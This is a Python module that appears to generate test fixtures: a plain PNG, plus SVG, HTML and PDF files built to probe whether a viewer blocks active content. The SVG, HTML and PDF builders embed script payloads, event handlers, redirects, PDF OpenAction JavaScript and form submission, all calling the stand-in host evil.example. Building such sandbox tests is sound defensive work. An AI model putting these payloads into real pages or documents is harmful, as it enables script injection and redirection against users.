"""Small files of kinds that browsers show, and some that mean harm; made here, byte by byte."""

import struct
import zlib

# What a hostile file would call; nothing answers there, and the guard of each page fails a test that asks.
EVIL = "https://evil.example/x"


def png(width: int = 40, height: int = 30) -> bytes:
    """A red rectangle (RFC 2083)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = b"".join(b"\0" + b"\xc0\x20\x20" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def svg() -> bytes:
    """Scripts, handlers, and addresses of others, in every way an SVG knows."""
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80"
 onload="top.hit=1;parent.hit=1;fetch('{EVIL}')">
<script>top.hit=1; parent.hit=1; location='{EVIL}'</script>
<style>@import url({EVIL}); rect {{ fill: #204080 }}</style>
<image href="{EVIL}.png" xlink:href="{EVIL}.png" width="9" height="9"/>
<foreignObject width="99" height="20"><body xmlns="http://www.w3.org/1999/xhtml"><script>top.hit=1</script><iframe src="{EVIL}"/></body></foreignObject>
<rect width="120" height="80"/><a href="{EVIL}"><text y="40">click</text></a></svg>""".encode()


def html() -> bytes:
    """A page that would run, load and leave."""
    return f"<script>top.hit=1;parent.hit=1;fetch('{EVIL}')</script><img src={EVIL} onerror=hit=1><meta http-equiv=refresh content='0;{EVIL}'>".encode()


def pdf() -> bytes:
    """One page of Latin and Japanese text in fonts that are not embedded; scripts, forms and links that must do nothing."""
    script = b"app.alert(1); this.submitForm('" + EVIL.encode() + b"'); app.launchURL('" + EVIL.encode() + b"');"
    text = (
        b"BT /F1 24 Tf 40 150 Td (Drawing 42) Tj ET BT /F2 24 Tf 40 100 Td <"
        + "文箱".encode("cp932").hex().encode()
        + b"> Tj ET"
    )
    japanese = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiKakuGo-W5 /Encoding /90ms-RKSJ-H /DescendantFonts [7 0 R] >>"
    )
    descendant = (
        b"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiKakuGo-W5 /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) "
        b"/Supplement 2 >> /FontDescriptor 8 0 R >>"
    )
    descriptor = (
        b"<< /Type /FontDescriptor /FontName /HeiseiKakuGo-W5 /Flags 4 /FontBBox [-92 -250 1010 922] /ItalicAngle 0 "
        b"/Ascent 752 /Descent -221 /CapHeight 737 /StemV 114 >>"
    )
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (" + EVIL.encode() + b") >> >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R /AA << /WC 9 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Annots [10 0 R] "
            b"/Resources << /Font << /F1 5 0 R /F2 6 0 R >> >> >>"
        ),
        b"<< /Length " + str(len(text)).encode() + b" >>\nstream\n" + text + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        japanese,
        descendant,
        descriptor,
        b"<< /S /JavaScript /JS (" + script.replace(b"(", b"\\(").replace(b")", b"\\)") + b") >>",
        link,
    ]
    return _pdf_of(objects)


def _pdf_of(objects: list[bytes]) -> bytes:
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += str(number).encode() + b" 0 obj\n" + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    return (
        out
        + head
        + table
        + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(out))
    )
